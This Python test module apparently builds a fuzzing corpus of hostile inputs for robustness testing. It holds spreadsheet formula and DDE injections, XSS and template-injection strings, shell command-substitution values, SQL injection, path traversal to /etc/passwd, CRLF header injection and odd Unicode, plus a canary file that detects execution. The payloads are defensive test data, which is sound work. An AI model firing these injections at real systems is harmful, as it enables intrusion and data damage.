"""Texts that were harmful somewhere once: formulas, scripts, SQL, paths, signs that are not seen, numbers, days."""

from __future__ import annotations

import random
from pathlib import Path

#: What stands in the place of a path outside: nobody may write to it. Filled in by whoever runs the corpus.
CANARY = "onescreen-canary"

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    f"=cmd|' /C touch {CANARY}'!A0", f'=HYPERLINK("http://x.invalid/?"&A1,"{CANARY}")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    '=IMPORTXML("http://x.invalid","//a")', "+cmd|'/C calc'!A0", "@cmd|'/C calc'!A0", ";=1+1", ",=1+1", '"=1+1"', "'=1",
)  # fmt: skip

MARKUP = (
    "<script>window.hostile=1</script>", "<img src=x onerror=window.hostile=1>", "\"><svg onload=window.hostile=1>",
    "'-window.hostile=1-'", "javascript:window.hostile=1", "</title><script>window.hostile=1</script>",
    "</script><script>window.hostile=1</script>", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "{0.__class__}", "%s%n%x", "{detail}",
    "<!--", "]]>", "<iframe srcdoc='<script>parent.hostile=1</script>'>", "\\u003cscript\\u003e", "&lt;b&gt;", "[link](javascript:1)",
    "{zh!r:>99999999}", "%(x)s", "$(touch onescreen-canary)", "`touch onescreen-canary`", "; touch onescreen-canary ;", "| touch onescreen-canary",
)  # fmt: skip

SQL = (
    "' OR '1'='1", "'; DROP TABLE load; --", '" OR ""="', "1; ATTACH DATABASE 'onescreen-canary' AS x", "') UNION SELECT 1 --",
    "%' AND 1=0 --", "\\'; SELECT pg_sleep(60); --", "_%_%", "city' COLLATE NOCASE --", "0x27", "1e1000", "NULL", "\\x00",
)  # fmt: skip

PATHS = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "%2e%2e%2f", "..%00/",
    "file:///etc/passwd", "C:\\boot.ini", "\\\\x.invalid\\share", "/dev/zero", "/proc/self/mem", "~root", "NUL", "con",
    "a/../../b", "./.", "..", ".", "", " ", "-rf", "--help", "\u2025/\u2025/etc", "..%c0%af", "http://x.invalid/", "//x.invalid/",
)  # fmt: skip

SIGNS = (
    "\x00", "a\x00b", "\u202e txt.exe", "\u200b", "\u200d", "\ufeff", "\ufffe", "\ud800", "\udfff\ud800", "e" + "\u0301" * 500,
    "\U0001f9a0" * 50, "\x1b[2J\x1b]0;x\x07", "\x7f", "\u2028", "\u2029", "ﷺ" * 40, "İ", "ß", "ǆ", "𝟙𝟚", "१२", "٣", "Ⅳ", "½",
    "\r\nSet-Cookie: a=b", "\r\n\r\n<b>", "%0d%0aX: y", "\x85", "\xa0", "\u3000", "\x1e", "\x1f",
)  # fmt: skip

NUMBERS = (
    "NaN", "nan", "Infinity", "-inf", "1e400", "-1e400", "1e-400", "-0", "-1", "2147483647", "2147483648", "-2147483649",
    "9223372036854775807", "9223372036854775808", "99999999999999999999999999", "9" * 400, "0x7fffffff", "1_000", "1,5",
    "٣", "0.1e1", "1e5", "00000000001", "+7", "1.5", "1/0", "true", "[]", "{}", "0b1", "𝟙", "１", "9" * 5000,
)  # fmt: skip

DAYS = (
    "0000-00-00", "0001-01-01", "0001-01-02", "9999-12-31", "9999-12-30", "-0044-03-15", "2022-02-30", "2022-13-01", "1900-01-01",
    "1899-12-31", "2100-12-31", "2101-01-01", "20220305", "2022-W10-6", "2022-065", "2022-03-05T25:00", "2022-03-05T08:00+24:00",
    "2022-03-05T08:00:00-23:59", "0001-01-01T00:00+14:00", "9999-12-31T23:59:59-14:00", "now", "then", "all", "today", "２０２２-０３-０５",
    "00010101T000000", "99991231T235959", "19000101T000000", "2022-03-05T08:00:00.1234567890123", "2022-03-05 ", "1e3-01-01",
    "0001-01-01/9999-12-31", "../0001-01-01", "9999-12-31/..", "../..",
)  # fmt: skip

EVERY = (*FORMULAS, *MARKUP, *SQL, *PATHS, *SIGNS, *NUMBERS, *DAYS)


def text(chance: random.Random) -> str:
    """One of them; sometimes two together, very long, or any signs at all."""
    match chance.randrange(12):
        case 0:
            return chance.choice(EVERY) + chance.choice(EVERY)
        case 1:
            return chance.choice(EVERY) * chance.choice((7, 90, 1500))
        case 2:
            return "".join(chr(chance.randrange(0x11000)) for _ in range(chance.randrange(1, 30)))
        case _:
            return chance.choice(EVERY)


def storable(words: str) -> str:
    """``words`` as UTF-8 can hold them: without halves of surrogate pairs."""
    return words.encode("utf-8", "replace").decode()


def traces(*folders: Path) -> list[str]:
    """Where something was executed or written that the corpus asks for."""
    return [str(path) for folder in folders for path in folder.rglob(CANARY)]
